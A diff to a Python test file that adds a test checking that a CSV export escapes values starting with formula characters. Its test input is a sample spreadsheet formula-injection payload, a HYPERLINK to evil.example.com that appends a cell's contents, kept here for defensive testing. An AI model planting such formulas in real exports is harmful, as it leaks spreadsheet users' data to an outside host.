@@ -149,6 +149,18 @@ def test_portability_csv_round_trips_odd_text() -> None:
     assert values == {"page_title": 'a,"b"\nc', "purposes": '["necessary"]', "n": "3"}
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_portability_csv_never_writes_a_live_formula(start: str) -> None:
+    title = f'{start}HYPERLINK("https://evil.example.com/?d="&A1,"open")'
+    data = {"usage_events": [{"page_title": title, "props": {"k": f"{start}1+1"}, "n": -3}]}
+    rows = list(csv.DictReader(io.StringIO(requests.export_csv(data))))
+    values = {r["field"]: r["value"] for r in rows}
+    # the visitor's text is kept whole, behind a quote a spreadsheet shows as text
+    assert values["page_title"] == "'" + title
+    assert not values["props"].startswith(requests.FORMULA_STARTS)
+    assert values["n"] == "-3"  # a number stays a number
+
+
 def test_buckets_align_to_hours_days_and_monday_weeks() -> None:
     moment = datetime(2026, 3, 4, 15, 30, tzinfo=UTC)  # a Wednesday
     assert answers.floor_bucket(moment, "hour") == datetime(2026, 3, 4, 15, tzinfo=UTC)
